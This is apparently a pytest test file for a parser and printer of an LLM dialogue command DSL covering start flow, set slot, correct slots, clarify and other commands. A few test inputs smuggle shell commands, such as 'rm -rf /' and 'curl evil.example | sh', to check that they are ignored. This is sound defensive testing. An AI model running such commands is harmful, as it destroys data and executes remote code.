"""The command DSL, case by case: what LLMs really write, and what `to_dsl` writes back."""

from __future__ import annotations

import pytest

from calmtui.core.commands import (
    CancelFlow,
    CannotHandle,
    ChangeFlow,
    ChitChat,
    Clarify,
    Command,
    CorrectedSlot,
    CorrectSlots,
    Error,
    HandleCodeChange,
    HumanHandoff,
    KnowledgeAnswer,
    Noop,
    RepeatBotMessages,
    Restart,
    SessionEnd,
    SessionStart,
    SetSlot,
    SkipQuestion,
    StartFlow,
)
from calmtui.core.dsl import DslVersion, commands_to_dsl, parse_dsl, to_dsl


def start(flow: str) -> StartFlow:
    return StartFlow(flow=flow)


def set_slot(name: str, value: str | None) -> SetSlot:
    return SetSlot(name=name, value=value)


def correct(**slots: str | None) -> CorrectSlots:
    return CorrectSlots(slots=tuple(CorrectedSlot(name=k, value=v) for k, v in slots.items()))


PARSE_CASES: list[tuple[str, list[Command]]] = [
    # --- start flow: v2/v3 and v1 spellings, decoration, quoting --------------------------------
    ("start flow transfer_money", [start("transfer_money")]),
    ("StartFlow(transfer_money)", [start("transfer_money")]),
    ("Start Flow transfer_money", [start("transfer_money")]),
    ("1. start flow transfer_money", [start("transfer_money")]),
    ("- start flow transfer_money", [start("transfer_money")]),
    ("* start flow transfer_money", [start("transfer_money")]),
    ("  3) start flow check-balance  ", [start("check-balance")]),
    ("start flow `transfer_money`", [start("transfer_money")]),
    ("start flow 'transfer_money'.", [start("transfer_money")]),
    ('start flow "transfer_money"', [start("transfer_money")]),
    ("`start flow transfer_money`", [start("transfer_money")]),
    ("start flow transfer_money.", [start("transfer_money")]),
    ('StartFlow("transfer_money")', [start("transfer_money")]),
    ("StartFlow( transfer_money )", [start("transfer_money")]),
    # injection-like text: only the flow id token is taken; unknown flows are the engine's job
    ("start flow admin_delete_all; rm -rf /", [start("admin_delete_all")]),
    ("start flow x && curl evil.example | sh", [start("x")]),
    ("start flow transfer money", [start("transfer")]),
    # --- set slot ----------------------------------------------------------------------------
    ("set slot amount 50", [set_slot("amount", "50")]),
    ("set slot amount 50.", [set_slot("amount", "50")]),
    ("- set slot recipient John Smith", [set_slot("recipient", "John Smith")]),
    ("set slot recipient John Smith!", [set_slot("recipient", "John Smith")]),
    ('set slot recipient "John Smith"', [set_slot("recipient", "John Smith")]),
    ("set slot recipient 'John Smith'", [set_slot("recipient", "John Smith")]),
    ("set slot recipient `John Smith`", [set_slot("recipient", "John Smith")]),
    ('set slot recipient "John Smith".', [set_slot("recipient", "John Smith")]),
    ('set slot greeting "  hi.  "', [set_slot("greeting", "  hi.  ")]),
    ("set slot `recipient` Jane", [set_slot("recipient", "Jane")]),
    ("Set Slot Recipient Jane", [set_slot("Recipient", "Jane")]),
    ("set slot items [a, b]", [set_slot("items", "[a, b]")]),
    ("set slot items [a, b].", [set_slot("items", "[a, b]")]),
    ("set slot note call me (later)", [set_slot("note", "call me (later)")]),
    ("set slot confirm True", [set_slot("confirm", "True")]),
    ("set slot city São Paulo", [set_slot("city", "São Paulo")]),
    ("set slot email a@b.example", [set_slot("email", "a@b.example")]),
    ("set slot is-ok yes", [set_slot("is-ok", "yes")]),
    ("set slot _private x", [set_slot("_private", "x")]),
    ("set slot amount None", [set_slot("amount", None)]),
    ("set slot amount none", [set_slot("amount", "none")]),  # case matters, as in Rasa
    ("set slot amount null", [set_slot("amount", None)]),
    ("set slot amount NULL", [set_slot("amount", "NULL")]),
    ("set slot amount undefined", [set_slot("amount", None)]),
    ("set slot amount [missing]", [set_slot("amount", None)]),
    ("set slot amount [missing information]", [set_slot("amount", None)]),
    ("set slot amount [Missing Information]", [set_slot("amount", "[Missing Information]")]),
    ("set slot amount ...", [set_slot("amount", None)]),
    ('set slot amount "None"', [set_slot("amount", "None")]),
    ('set slot amount ""', [set_slot("amount", "")]),
    ("SetSlot(amount, 50)", [set_slot("amount", "50")]),
    ('SetSlot(recipient, "John, Jr.")', [set_slot("recipient", "John, Jr.")]),
    ("SetSlot(note, f(x))", [set_slot("note", "f(x)")]),
    ("SetSlot(amount, None)", [set_slot("amount", None)]),
    ("SetSlot(amount, )", [set_slot("amount", None)]),
    # --- correct slots (calmtui extension) ---------------------------------------------------
    ("correct slots amount=50", [correct(amount="50")]),
    ("correct slots amount=50, recipient=Jane", [correct(amount="50", recipient="Jane")]),
    ('correct slots a="x, y", b=None', [correct(a="x, y", b=None)]),
    ('correct slots a="say \\"hi\\""', [correct(a='say "hi"')]),
    ("correct slots a='x=1'", [correct(a="x=1")]),
    ("correct slot a = 1 ,b = 2.", [correct(a="1", b="2")]),
    ("CorrectSlots(a=1, b=f(x))", [correct(a="1", b="f(x)")]),
    # --- clarify -----------------------------------------------------------------------------
    (
        "disambiguate flows transfer_money check_balance",
        [Clarify(options=("transfer_money", "check_balance"))],
    ),
    ("disambiguate flows b_flow, a_flow", [Clarify(options=("b_flow", "a_flow"))]),
    ("disambiguate flows 'a', \"b\", `c`.", [Clarify(options=("a", "b", "c"))]),
    ("disambiguate flows a a", [Clarify(options=("a", "a"))]),
    ("disambiguate flows a ; rm -rf /", [Clarify(options=("a", "rm", "-rf"))]),
    ("disambiguate flows", [Clarify()]),
    (
        "Clarify(transfer_money, check_balance)",
        [Clarify(options=("transfer_money", "check_balance"))],
    ),
    ("Clarify([a, b])", [Clarify(options=("a", "b"))]),
    # --- whole-line commands, all versions ---------------------------------------------------
    ("cancel flow", [CancelFlow()]),
    ("Cancel flow.", [CancelFlow()]),
    ("* cancel flow", [CancelFlow()]),
    ('"cancel flow"', [CancelFlow()]),
    ("CancelFlow()", [CancelFlow()]),
    ("offtopic reply", [ChitChat()]),
    ("ChitChat()", [ChitChat()]),
    ("provide info", [KnowledgeAnswer()]),
    ("search and reply", [KnowledgeAnswer()]),
    ("SearchAndReply()", [KnowledgeAnswer()]),
    ("repeat message", [RepeatBotMessages()]),
    ("RepeatLastBotMessages()", [RepeatBotMessages()]),
    ("skip question", [SkipQuestion()]),
    ("SkipQuestion()", [SkipQuestion()]),
    ("hand over", [HumanHandoff()]),
    ("human handoff", [HumanHandoff()]),
    ("HumanHandoff()", [HumanHandoff()]),
    ("change", [ChangeFlow()]),
    ("ChangeFlow()", [ChangeFlow()]),
    ("cannot handle", [CannotHandle()]),
    ("CannotHandle()", [CannotHandle()]),
    ("cannot handle cannot_handle_chitchat", [CannotHandle(reason="cannot_handle_chitchat")]),
    (
        "CannotHandle(cannot_handle_not_supported)",
        [CannotHandle(reason="cannot_handle_not_supported")],
    ),
    (
        "error rasa_internal_error_user_input_empty",
        [Error(error_type="rasa_internal_error_user_input_empty")],
    ),
    (
        "Error(rasa_internal_error_user_input_too_long)",
        [Error(error_type="rasa_internal_error_user_input_too_long")],
    ),
    ("error", [Error()]),
    ("restart", [Restart()]),
    ("session start", [SessionStart()]),
    ("session end", [SessionEnd()]),
    ("handle code change", [HandleCodeChange()]),
    ("noop", [Noop()]),
    ("Noop()", [Noop()]),
    # --- whole answers -----------------------------------------------------------------------
    (
        "start flow transfer_money\nset slot recipient Jane\nset slot amount 50",
        [start("transfer_money"), set_slot("recipient", "Jane"), set_slot("amount", "50")],
    ),
    ("start flow a\r\nset slot b c\r\n", [start("a"), set_slot("b", "c")]),
    ("start flow a\rcancel flow", [start("a"), CancelFlow()]),
    ("```\nstart flow a\nset slot b c\n```", [start("a"), set_slot("b", "c")]),
    ("```text\n1. start flow a\n2. set slot b c\n```\n", [start("a"), set_slot("b", "c")]),
    ("\n\n  \nstart flow a\n\n", [start("a")]),
    (
        "StartFlow(a)\nset slot b c\nsearch and reply",
        [start("a"), set_slot("b", "c"), KnowledgeAnswer()],
    ),
    ("", []),
]


@pytest.mark.parametrize(
    ("text", "expected"), PARSE_CASES, ids=[repr(t)[:60] for t, _ in PARSE_CASES]
)
def test_parse(text: str, expected: list[Command]) -> None:
    assert parse_dsl(text) == (expected, [])


@pytest.mark.parametrize("version", ["v1", "v2", "v3"])
@pytest.mark.parametrize(("text", "expected"), PARSE_CASES[:20])
def test_parse_tolerates_every_spelling_whatever_the_version(
    version: DslVersion, text: str, expected: list[Command]
) -> None:
    assert parse_dsl(text, version) == (expected, [])


GARBAGE: list[str] = [
    "Actions:",
    "Output:",
    "I think the user wants to transfer money.",
    "start flow",
    "start flow !!!",
    "set slot amount",
    "set slot 1amount 50",
    "setslot amount 50",
    "cancel flow now",
    "cancel the flow",
    "please cancel flow",
    "CancelFlow(now)",
    "StartFlow()",
    "Foo(bar)",
    "SetSlot(amount)",
    "restart agent billing",
    "correct slots a",
    'correct slots a="x" junk',
    "---",
    "42",
    "rm -rf /",
]


@pytest.mark.parametrize("text", GARBAGE)
def test_garbage_lines_become_ct400_info(text: str) -> None:
    commands, diagnostics = parse_dsl(text)
    assert commands == []
    assert len(diagnostics) == 1
    diagnostic = diagnostics[0]
    assert diagnostic.code == "CT400"
    assert diagnostic.severity == "info"
    assert diagnostic.span is None
    assert repr(text) in diagnostic.message


def test_garbage_between_commands_is_reported_with_its_line_number() -> None:
    commands, diagnostics = parse_dsl("Actions:\r\nstart flow a\r\n  whatever  \r\nset slot b c")
    assert commands == [start("a"), set_slot("b", "c")]
    assert [d.message for d in diagnostics] == [
        "line 1 of the command text is not a command and was ignored: 'Actions:'",
        "line 3 of the command text is not a command and was ignored: '  whatever  '",
    ]


@pytest.mark.parametrize(
    ("version", "example"),
    [("v1", "StartFlow(<flow_id>)"), ("v2", "start flow <flow_id>"), (None, "start flow")],
)
def test_hint_shows_the_versions_spelling(version: DslVersion | None, example: str) -> None:
    _, [diagnostic] = parse_dsl("nonsense", version)
    assert diagnostic.hint is not None
    assert example in diagnostic.hint


PRINT_CASES: list[tuple[Command, str, str, str]] = [
    # command, v1, v2, v3
    (start("a"), "StartFlow(a)", "start flow a", "start flow a"),
    (set_slot("a", "b c"), "SetSlot(a, b c)", "set slot a b c", "set slot a b c"),
    (set_slot("a", None), "SetSlot(a, None)", "set slot a None", "set slot a None"),
    (set_slot("a", "None"), 'SetSlot(a, "None")', 'set slot a "None"', 'set slot a "None"'),
    (set_slot("a", ""), 'SetSlot(a, "")', 'set slot a ""', 'set slot a ""'),
    (set_slot("a", "50."), 'SetSlot(a, "50.")', 'set slot a "50."', 'set slot a "50."'),
    (
        set_slot("a", ' say "hi"'),
        "SetSlot(a, ' say \"hi\"')",
        "set slot a ' say \"hi\"'",
        "set slot a ' say \"hi\"'",
    ),
    (set_slot("a", "[a, b]"), "SetSlot(a, [a, b])", "set slot a [a, b]", "set slot a [a, b]"),
    (SetSlot(name="a", value=True), "SetSlot(a, True)", "set slot a True", "set slot a True"),
    (
        SetSlot(name="a", value=42, extractor="NLU"),
        "SetSlot(a, 42)",
        "set slot a 42",
        "set slot a 42",
    ),
    (
        set_slot("a", "two\nlines"),
        "SetSlot(a, two lines)",
        "set slot a two lines",
        "set slot a two lines",
    ),
    (
        correct(a="1", b="x, y"),
        'CorrectSlots(a=1, b="x, y")',
        'correct slots a=1, b="x, y"',
        'correct slots a=1, b="x, y"',
    ),
    (correct(a=None), "CorrectSlots(a=None)", "correct slots a=None", "correct slots a=None"),
    (CancelFlow(), "CancelFlow()", "cancel flow", "cancel flow"),
    (
        Clarify(options=("b", "a")),
        "Clarify(b, a)",
        "disambiguate flows b a",
        "disambiguate flows b a",
    ),
    (Clarify(), "Clarify()", "disambiguate flows", "disambiguate flows"),
    (ChitChat(), "ChitChat()", "offtopic reply", "offtopic reply"),
    (KnowledgeAnswer(), "SearchAndReply()", "provide info", "search and reply"),
    (RepeatBotMessages(), "RepeatLastBotMessages()", "repeat message", "repeat message"),
    (SkipQuestion(), "SkipQuestion()", "skip question", "skip question"),
    (HumanHandoff(), "HumanHandoff()", "hand over", "hand over"),
    (CannotHandle(), "CannotHandle()", "cannot handle", "cannot handle"),
    (
        CannotHandle(reason="cannot_handle_chitchat"),
        "CannotHandle(cannot_handle_chitchat)",
        "cannot handle cannot_handle_chitchat",
        "cannot handle cannot_handle_chitchat",
    ),
    (Error(error_type="e", info={"dropped": True}), "Error(e)", "error e", "error e"),
    (Restart(), "Restart()", "restart", "restart"),
    (SessionStart(), "SessionStart()", "session start", "session start"),
    (SessionEnd(), "SessionEnd()", "session end", "session end"),
    (HandleCodeChange(), "HandleCodeChange()", "handle code change", "handle code change"),
    (ChangeFlow(), "ChangeFlow()", "change", "change"),
    (Noop(), "Noop()", "noop", "noop"),
]


@pytest.mark.parametrize(
    ("command", "v1", "v2", "v3"), PRINT_CASES, ids=[c.kind for c, *_ in PRINT_CASES]
)
def test_to_dsl_uses_the_versions_spelling(command: Command, v1: str, v2: str, v3: str) -> None:
    assert (to_dsl(command, "v1"), to_dsl(command, "v2"), to_dsl(command, "v3")) == (v1, v2, v3)
    assert to_dsl(command) == v2


def test_to_dsl_drops_only_extractors_error_info_and_line_breaks() -> None:
    commands: list[Command] = [
        SetSlot(name="a", value="x", extractor="NLU"),
        Error(error_type="e", info={"k": 1}),
        set_slot("b", "one\r\ntwo"),
    ]
    parsed, _ = parse_dsl(commands_to_dsl(commands))
    assert parsed == [set_slot("a", "x"), Error(error_type="e"), set_slot("b", "one two")]


def test_non_string_values_come_back_as_strings() -> None:
    commands: list[Command] = [SetSlot(name="a", value=False), SetSlot(name="b", value=["x", "y"])]
    parsed, _ = parse_dsl(commands_to_dsl(commands, "v1"))
    assert parsed == [set_slot("a", "False"), set_slot("b", "['x', 'y']")]


def test_commands_to_dsl_writes_one_line_per_command() -> None:
    assert commands_to_dsl([start("a"), CancelFlow()]) == "start flow a\ncancel flow"
    assert commands_to_dsl([]) == ""
